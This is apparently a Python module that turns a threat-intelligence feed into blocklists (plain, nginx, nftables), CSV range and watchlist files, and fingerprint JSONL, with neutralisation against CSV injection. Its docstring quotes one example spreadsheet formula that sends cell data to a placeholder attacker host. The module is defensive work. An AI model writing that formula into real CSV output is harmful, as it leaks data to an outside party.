"""Enforcement artifacts: the files a lab's systems read, written from the current feed.

Files (in the output directory, content in a fixed order so the same feed
gives byte-identical files and diffs stay readable). They are published as one
set (``atomic.write_file_set``): each name is a symlink through ``.dx-current``
to a generation directory, and one rename switches every file at once, so a
reader never sees a half-written file, nor (if it resolves ``.dx-current``
once) a new blocklist beside an old watchlist:

* ``blocklist.txt``: one CIDR per line, the ranges whose recommended action
  is in ``block_actions`` (default: ``block`` only; ``rate-limit``,
  ``step-up`` and ``monitor`` ranges are not for a deny list);
* ``blocklist.nginx.conf``: the same ranges as nginx ``deny CIDR;`` lines,
  for an ``include`` inside a ``server`` or ``location`` block;
* ``blocklist.nft``: the same ranges as nftables interval sets
  ``blocklist_v4``/``blocklist_v6`` in table ``inet dx_exchange``; ``nft -f``
  applies the file as one transaction (flush + add), so reloading swaps the
  set contents atomically; overlapping ranges are merged because interval
  sets refuse overlaps;
* ``ranges.csv``: every current range whatever its action (cidr, action,
  confidence, producer, producer_name, indicator_id, valid_until), for
  rate-limiters, step-up verification and monitoring;
* ``watchlist.csv``: one row per (account hash, cluster): hash, kind, key_id,
  cluster (the account-cluster's STIX id), producer, confidence, enforcement,
  cluster_key, producer_name;
* ``fingerprints.jsonl``: one JSON object per shared fingerprint: algorithm,
  key_id, value, match_rule, parameters, producer, indicator_id,
  fingerprint_id, confidence.

``min_confidence`` drops entries stated with less confidence from every file.

The CSV files carry text partners wrote (producer names, actions, cluster
keys). A spreadsheet opening them would run a cell such as
``=HYPERLINK("https://evil.example/?"&A2,"details")`` as a formula, so every
text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written with a leading ``'`` (OWASP's CSV injection advice;
``neutralise_cell``), and a carriage return inside a cell is written as a
line feed (so the cell is quoted and cannot end the row early). Numbers
stay numbers; no legitimate value of these
columns (CIDRs, STIX ids, hashes, timestamps, the action vocabulary) starts
with one of those characters.
"""

from __future__ import annotations

import csv
import io
import ipaddress
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import orjson

from exchange.feed.atomic import write_file_set
from exchange.feed.current import CurrentFeed, FingerprintEntry, RangeEntry, WatchEntry

DEFAULT_BLOCK_ACTIONS = ("block",)
NFT_TABLE = "inet dx_exchange"
_NFT_ELEMENTS_PER_LINE = 256

BLOCKLIST = "blocklist.txt"
NGINX = "blocklist.nginx.conf"
NFTABLES = "blocklist.nft"
RANGES = "ranges.csv"
WATCHLIST = "watchlist.csv"
FINGERPRINTS = "fingerprints.jsonl"


@dataclass(frozen=True)
class ArtifactSummary:
    """Counts per artifact, for the command's log line."""

    blocked_ranges: int
    ranges: int
    watchlist_rows: int
    fingerprints: int
    expired: int
    skipped: int
    files: tuple[str, ...]


def blocked_networks(
    ranges: Iterable[RangeEntry], block_actions: Sequence[str]
) -> list[ipaddress.IPv4Network | ipaddress.IPv6Network]:
    """Distinct networks to deny, IPv4 first, in address order."""
    wanted = set(block_actions)
    networks = {entry.network for entry in ranges if entry.action in wanted}
    return sorted(networks, key=lambda n: (n.version, int(n.network_address), n.prefixlen))


def _header(kind: str, count: int, block_actions: Sequence[str]) -> str:
    actions = ", ".join(block_actions)
    return (
        f"# dx act: {kind} from the exchange feed; recommended action in {{{actions}}}; "
        f"{count} ranges. Generated file: edits are overwritten.\n"
    )


def render_blocklist(networks: Sequence, block_actions: Sequence[str]) -> bytes:
    lines = [_header("CIDR blocklist", len(networks), block_actions)]
    lines += [f"{network.compressed}\n" for network in networks]
    return "".join(lines).encode()


def render_nginx(networks: Sequence, block_actions: Sequence[str]) -> bytes:
    lines = [_header("nginx deny list", len(networks), block_actions)]
    lines += [f"deny {network.compressed};\n" for network in networks]
    return "".join(lines).encode()


def render_nftables(networks: Sequence, block_actions: Sequence[str]) -> bytes:
    v4 = list(ipaddress.collapse_addresses(n for n in networks if n.version == 4))
    v6 = list(ipaddress.collapse_addresses(n for n in networks if n.version == 6))
    lines = [
        "#!/usr/sbin/nft -f\n",
        _header("nftables sets", len(networks), block_actions),
        "# Load: nft -f blocklist.nft   (one transaction: the sets are flushed and refilled).\n",
        "# Use from a chain in the same table, e.g.:\n",
        f"#   nft add chain {NFT_TABLE} input "
        "'{ type filter hook input priority -10; policy accept; }'\n",
        f"#   nft add rule {NFT_TABLE} input ip saddr @blocklist_v4 drop\n",
        f"#   nft add rule {NFT_TABLE} input ip6 saddr @blocklist_v6 drop\n",
        f"table {NFT_TABLE} {{\n",
        "\tset blocklist_v4 {\n\t\ttype ipv4_addr\n\t\tflags interval\n\t}\n",
        "\tset blocklist_v6 {\n\t\ttype ipv6_addr\n\t\tflags interval\n\t}\n",
        "}\n",
        f"flush set {NFT_TABLE} blocklist_v4\n",
        f"flush set {NFT_TABLE} blocklist_v6\n",
    ]
    for name, merged in (("blocklist_v4", v4), ("blocklist_v6", v6)):
        for start in range(0, len(merged), _NFT_ELEMENTS_PER_LINE):
            chunk = merged[start : start + _NFT_ELEMENTS_PER_LINE]
            elements = ", ".join(network.compressed for network in chunk)
            lines.append(f"add element {NFT_TABLE} {name} {{ {elements} }}\n")
    return "".join(lines).encode()


_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """A CSV cell a spreadsheet will show as text: ``'`` before a formula-leading string.

    A carriage return inside a cell also becomes a line feed: Python 3.11's
    writer (line terminator ``\\n``) quotes a cell holding a line feed but not
    one holding a bare carriage return, which CSV readers take as the end of
    the row, so a partner could otherwise add rows of its own to the file.
    """
    if not isinstance(value, str):
        return value
    if value.startswith(_FORMULA_STARTS):
        value = "'" + value
    return value.replace("\r", "\n") if "\r" in value else value


def _csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if value is None else neutralise_cell(value) for value in row])
    return buffer.getvalue().encode()


def render_ranges(feed: CurrentFeed) -> bytes:
    header = (
        "cidr", "action", "confidence", "producer", "producer_name", "indicator_id",
        "valid_until",
    )  # fmt: skip
    rows = (
        (
            entry.cidr,
            entry.action,
            entry.confidence,
            entry.producer,
            feed.producer_names.get(entry.producer or ""),
            entry.indicator_id,
            entry.valid_until,
        )
        for entry in feed.ranges
    )
    return _csv(header, rows)


def render_watchlist(feed: CurrentFeed) -> bytes:
    header = (
        "hash", "kind", "key_id", "cluster", "producer", "confidence", "enforcement",
        "cluster_key", "producer_name",
    )  # fmt: skip
    rows = (
        (
            entry.hash,
            entry.kind,
            entry.key_id,
            entry.cluster,
            entry.producer,
            entry.confidence,
            entry.enforcement,
            entry.cluster_key,
            feed.producer_names.get(entry.producer or ""),
        )
        for entry in feed.watchlist
    )
    return _csv(header, rows)


def render_fingerprints(feed: CurrentFeed) -> bytes:
    lines = []
    for entry in feed.fingerprints:
        record = {
            "algorithm": entry.algorithm,
            "key_id": entry.key_id,
            "value": entry.value,
            "match_rule": entry.match_rule,
            "parameters": entry.parameters,
            "producer": entry.producer,
            "indicator_id": entry.indicator_id,
            "fingerprint_id": entry.fingerprint_id,
            "confidence": entry.confidence,
        }
        lines.append(orjson.dumps(record, option=orjson.OPT_SORT_KEYS) + b"\n")
    return b"".join(lines)


def _confident(feed: CurrentFeed, min_confidence: int) -> CurrentFeed:
    """Only entries stated with at least ``min_confidence`` (no confidence counts as 0)."""

    def keep(entry: RangeEntry | WatchEntry | FingerprintEntry) -> bool:
        return (entry.confidence or 0) >= min_confidence

    return replace(
        feed,
        ranges=[e for e in feed.ranges if keep(e)],
        watchlist=[e for e in feed.watchlist if keep(e)],
        fingerprints=[e for e in feed.fingerprints if keep(e)],
    )


def write_artifacts(
    feed: CurrentFeed,
    out_dir: Path,
    *,
    block_actions: Sequence[str] = DEFAULT_BLOCK_ACTIONS,
    min_confidence: int = 0,
) -> ArtifactSummary:
    """Publish every artifact in ``out_dir`` as one set and return the counts."""
    actions = sorted(set(block_actions))
    if min_confidence > 0:
        feed = _confident(feed, min_confidence)
    networks = blocked_networks(feed.ranges, actions)
    contents = {
        BLOCKLIST: render_blocklist(networks, actions),
        NGINX: render_nginx(networks, actions),
        NFTABLES: render_nftables(networks, actions),
        RANGES: render_ranges(feed),
        WATCHLIST: render_watchlist(feed),
        FINGERPRINTS: render_fingerprints(feed),
    }
    write_file_set(out_dir, contents)
    return ArtifactSummary(
        blocked_ranges=len(networks),
        ranges=len(feed.ranges),
        watchlist_rows=len(feed.watchlist),
        fingerprints=len(feed.fingerprints),
        expired=feed.expired,
        skipped=len(feed.skipped),
        files=tuple(contents),
    )
